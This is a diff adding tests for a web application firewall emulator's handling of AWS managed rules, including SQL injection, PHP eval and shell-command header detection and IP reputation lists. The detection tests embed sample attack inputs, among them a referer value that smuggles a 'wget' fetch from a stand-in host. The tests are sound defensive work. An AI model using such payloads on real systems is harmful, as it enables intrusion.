@@ -134,6 +134,66 @@ describe('managed rule group emulations (waf.md §11)', () => {
       action: 'COUNT',
     });
   });
+  it('new field variants: SQLi_URIPATH, PHPHighRiskMethodsVariables_HEADER, UNIXShellCommandsVariables_HEADER', () => {
+    const cases: [string, Record<string, string>, string, string][] = [
+      ['/item/1%27%20OR%201=1--', ua, 'SQLi_URIPATH', 'awswaf:managed:aws:sql-database:SQLi_URIPath'],
+      [
+        '/',
+        { ...ua, 'x-debug': 'eval(base64_decode($x))' },
+        'PHPHighRiskMethodsVariables_HEADER',
+        'awswaf:managed:aws:php-app:PHPHighRiskMethodsVariables_Header',
+      ],
+      [
+        '/',
+        { ...ua, referer: 'x; wget http://e.example/s' },
+        'UNIXShellCommandsVariables_HEADER',
+        'awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_Header',
+      ],
+    ];
+    for (const [url, headers, groupRule, label] of cases) {
+      const d = e.evaluate(makeRequest({ url, headers: { host: 'shop.example', ...headers } }));
+      expect(d.terminatingGroupRule).toBe(groupRule);
+      expect(d.labels).toContain(label);
+    }
+  });
+  it('AmazonIpReputationList: configured lists, an IP set named after the rule wins, DDoS list counts', () => {
+    const acl = {
+      Name: 'm',
+      DefaultAction: { Allow: {} },
+      VisibilityConfig: vis,
+      Rules: [managed('AWSManagedRulesAmazonIpReputationList', 0)],
+    };
+    const r = loadWebAcl(
+      [
+        acl,
+        { IPSet: { Name: 'AWSManagedReconnaissanceList', Addresses: ['198.51.100.0/24'], IPAddressVersion: 'IPV4' } },
+      ],
+      {
+        ipReputation: {
+          AWSManagedIPReputationList: ['203.0.113.0/24', '2001:db8::/32'],
+          AWSManagedReconnaissanceList: ['192.0.2.0/24'],
+          AWSManagedIPDDoSList: ['192.0.2.7/32'],
+        },
+      },
+    );
+    expect(r.issues).toEqual([]);
+    const eng = new WafEngine(r.acl!);
+    expect(r.acl!.rules[0]!.wcu).toBe(25);
+    const at = (clientIp: string) => eng.evaluate(makeRequest({ url: '/', clientIp, headers: ua }));
+    expect(at('203.0.113.9')).toMatchObject({ action: 'BLOCK', terminatingGroupRule: 'AWSManagedIPReputationList' });
+    expect(at('2001:db8::1').labels).toContain('awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList');
+    expect(at('198.51.100.1').terminatingGroupRule).toBe('AWSManagedReconnaissanceList');
+    // The option's list was replaced by the supplied IP set, so 192.0.2.1 is no longer on the reconnaissance list.
+    expect(at('192.0.2.1').action).toBe('ALLOW');
+    const ddos = at('192.0.2.7');
+    expect(ddos.action).toBe('ALLOW');
+    expect(ddos.labels).toContain('awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList');
+    expect(at('10.0.0.1')).toMatchObject({ action: 'ALLOW', labels: [] });
+  });
+  it('AmazonIpReputationList without lists loads and matches nothing', () => {
+    const e3 = engine([managed('AWSManagedRulesAmazonIpReputationList', 0)]);
+    expect(e3.evaluate(makeRequest({ url: '/', clientIp: '203.0.113.9', headers: ua })).action).toBe('ALLOW');
+  });
   it('a managed group Vigil does not emulate is a located error', () => {
     const r = loadWebAcl([
       { Name: 'm', DefaultAction: { Allow: {} }, Rules: [managed('AWSManagedRulesBotControlRuleSet', 0)] },
